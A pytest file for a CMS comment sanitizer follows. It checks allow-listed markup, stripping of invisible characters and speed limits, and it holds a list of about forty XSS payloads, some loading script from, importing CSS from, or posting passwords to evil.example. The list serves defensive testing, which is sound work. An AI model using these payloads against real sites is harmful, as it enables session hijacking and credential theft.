"""What strangers type stays text, or becomes one of a few harmless elements."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cms.core.sanitize import LINK_REL, LONGEST, TAGS, clean_comment, clean_text, has_link

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/relative)",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](https://a.example/'onmouseover='alert(1))",
    '["><img src=x onerror=alert(1)>](https://a.example)',
    'https://a.example/"><script>alert(1)</script>',
    "https://a.example/&quot;onmouseover=alert(1)",
    "http://a.example\u202e/gpj.exe",
    "`<script>alert(1)</script>`",
    "**<b onclick=alert(1)>**",
    "*</em><script>alert(1)</script>*",
    "> <blockquote onfocus=alert(1) autofocus tabindex=1>",
    "- <li onclick=alert(1)>",
    "1. <style>@import '//evil.example'</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<form action=//evil.example><input name=password>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script\x00>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa"
    "/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    '<a href="mailto:x@y.example?subject=<script>">x</a>',
    "[x](mailto:a@b.example?body=<script>)",
    "\ufeff<script>",
    '<p style="position:fixed;inset:0">x</p>',
    "<a rel=dofollow href=https://a.example>x</a>",
]


class Elements(HTMLParser):
    """Every element and attribute that a browser would make of markup."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.found.append(("!--", {}))

    def handle_decl(self, decl):
        self.found.append(("!", {}))


def assert_inside_the_allow_list(markup: str) -> None:
    parser = Elements()
    parser.feed(markup)
    parser.close()
    for tag, attributes in parser.found:
        assert tag in TAGS
        if tag == "a":
            assert set(attributes) == {"href", "rel"}
            assert attributes["rel"] == LINK_REL
            assert str(attributes["href"]).lower().startswith(("http://", "https://", "mailto:"))
        else:
            assert not attributes


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_inside_the_allow_list(text):
    assert_inside_the_allow_list(clean_comment(text))


@given(st.text(alphabet=st.sampled_from(list("<>\"'`*[]()!-&;:/.#=\\ \nascripthtp@\u202e\u0301")), max_size=200))
def test_any_text_stays_inside_the_allow_list(text):
    assert_inside_the_allow_list(clean_comment(text))


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("One\ntwo\n\nthree", "<p>One<br>two</p><p>three</p>"),
        ("*so* and **so**", "<p><em>so</em> and <strong>so</strong></p>"),
        ("5 * 3 * 2 = 30", "<p>5 * 3 * 2 = 30</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
        ("> said", "<blockquote><p>said</p></blockquote>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("AT&T", "<p>AT&amp;T</p>"),
        (
            "[here](https://a.example/?x=1&y=2).",
            f'<p><a href="https://a.example/?x=1&amp;y=2" rel="{LINK_REL}">here</a>.</p>',
        ),
        (
            "See https://a.example/b.",
            f'<p>See <a href="https://a.example/b" rel="{LINK_REL}">https://a.example/b</a>.</p>',
        ),
    ],
)
def test_a_few_marks_have_a_meaning(text, markup):
    assert clean_comment(text) == markup


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("a\u202eb\u2066c", "abc"),
        ("a\u200bb\ufeffc\u00add", "abcd"),
        ("e\u0301", "é"),
        ("a\x00b\x1b[31mc", "ab[31mc"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("a\n\n\n\n\nb", "a\n\nb"),
        ("\ud800x", "x"),
        ("می\u200cخواهم", "می\u200cخواهم"),
    ],
)
def test_unseen_characters_are_taken_out(text, clean):
    assert clean_text(text) == clean


def test_towers_of_accents_are_cut():
    assert len(clean_text("Z" + "\u0301" * 1000)) <= 10


def test_a_comment_has_at_most_five_thousand_characters():
    assert len(clean_text("a" * 9000)) == LONGEST


@pytest.mark.parametrize(
    "piece", ["*", "[a](", "`a", "> ", "http://", "**a*", "[[[", "&", "- - ", "a\u0301", "<", "](", "\n-"]
)
def test_no_text_can_make_it_crawl(piece):
    started = time.perf_counter()
    clean_comment(piece * (LONGEST // len(piece)))
    assert time.perf_counter() - started < 1


def test_a_link_is_noticed():
    assert has_link(clean_comment("https://a.example"))
    assert not has_link(clean_comment("<a href=x>"))
